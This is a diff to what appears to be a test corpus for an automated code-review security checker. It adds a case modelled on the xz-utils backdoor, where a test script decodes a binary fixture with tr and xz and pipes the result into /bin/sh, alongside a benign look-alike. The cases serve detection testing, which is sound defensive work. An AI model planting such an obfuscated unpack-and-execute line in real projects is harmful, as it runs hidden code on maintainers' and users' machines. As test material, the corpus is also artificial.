@@ -1411,6 +1411,37 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['low', 'medium'], action: ['approve', 'comment'], noFindings: true },
   },
   {
+    id: 'attack-test-script-unpacks-fixture-into-shell',
+    description:
+      'The xz-utils stage (CVE-2024-3094) moved from a build macro to a test script: an "add corrupted-stream test" PR adds a binary fixture and a line to tests/run.sh that cuts bytes out of it, maps them back with a tr substitution, decompresses them with xz and pipes the result into /bin/sh; the code that runs is in no file a reviewer reads.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 7411,
+        title: 'test: add corrupted-stream fixture',
+        author: 'newcomer',
+        files: [
+          { path: 'tests/run.sh', base: lines('#!/bin/sh', 'set -e', './test_codec tests/files'), head: lines('#!/bin/sh', 'set -e', './test_codec tests/files', 'head -c 4096 tests/files/bad-3-corrupt.lzma | tail -c 2048 | tr "\\5-\\51\\204-\\377\\52-\\115" "\\0-\\377" | xz -F raw --lzma1 -dc 2>/dev/null | /bin/sh') },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['obfuscated-code'] },
+  },
+  {
+    id: 'benign-test-script-restores-compressed-dump',
+    description: 'The benign look-alike: a maintainer\'s test script loads a compressed SQL dump into the test database (gunzip into psql) and unpacks a fixture archive with tar: data unpacked into tools that read it, nothing run as code.',
+    fixture: () =>
+      attackPr({
+        repo: 'lzfast',
+        number: 7412,
+        title: 'test: load the fixture database',
+        author: 'member',
+        files: [
+          { path: 'tests/run.sh', base: lines('#!/bin/sh', 'set -e', './test_codec tests/files'), head: lines('#!/bin/sh', 'set -e', 'gunzip -c tests/files/fixture.sql.gz | psql "$TEST_DATABASE_URL"', 'tar -xJf tests/files/corpus.tar.xz -C "$TMPDIR"', './test_codec tests/files') },
+        ],
+      }),
+    expect: { level: 'low', action: 'approve' },
+  },
+  {
     id: 'attack-landlock-check-stray-dot',
     description:
       "xz-utils, 2024: one '.' added to the test program of CMakeLists.txt's Landlock check made it never compile, so the sandbox was silently left out of every build. Here as a newcomer's \"tidy the Landlock check\" PR.",
